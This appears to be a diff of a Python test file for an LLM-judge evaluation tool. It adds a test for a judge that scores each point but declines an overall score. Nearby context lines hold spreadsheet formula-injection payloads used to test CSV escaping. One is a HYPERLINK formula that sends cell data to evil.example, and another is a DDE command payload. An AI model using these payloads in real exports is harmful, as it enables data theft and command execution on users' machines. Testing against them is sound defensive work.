@@ -93,6 +93,22 @@ def test_parse_errors_refusals_and_failed_requests_are_stored_with_the_raw_outpu
     assert any("score 15 is outside 1-10" in e.reason for e in job.errors.all())
 
 
+def test_a_judge_that_scores_each_point_but_declines_an_overall_score_is_stored_without_a_score(rubrics, server):
+    declined = "第1点[3]正确，第2点[9]错误。无法给出总体评分。"
+    server.when("DECLINED", Reply(content=declined))
+    server.when("LATER", Reply(content="第一次无法给出总体评分；补充条件后：准确性[8]。\n总体评分：[7]"))
+    dataset = Dataset.objects.create(name="s")
+    make_responses(dataset, ["DECLINED", "LATER"])
+    job = run(dataset, [make_judge(server)])
+    by_text = {j.response.text: j for j in Judgement.objects.select_related("response")}
+    assert (by_text["DECLINED"].status, by_text["DECLINED"].score) == ("parse_error", None)
+    assert by_text["DECLINED"].raw_output == declined
+    assert (by_text["LATER"].status, by_text["LATER"].score) == ("ok", 7)
+    assert job.counts["parse_error"] == 1 and job.counts["ok"] == 1
+    assert [e.reason.split(": ", 1)[1] for e in job.errors.all()] == [
+        "parse_error: the judge gives no overall score ('无法给出总体评分')"]
+
+
 def test_the_errors_csv_quotes_judge_output_that_a_spreadsheet_would_run_as_a_formula(rubrics, server, client):
     answers = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
                "\t=1+1", "回答中 -1 和 =2 不在开头"]
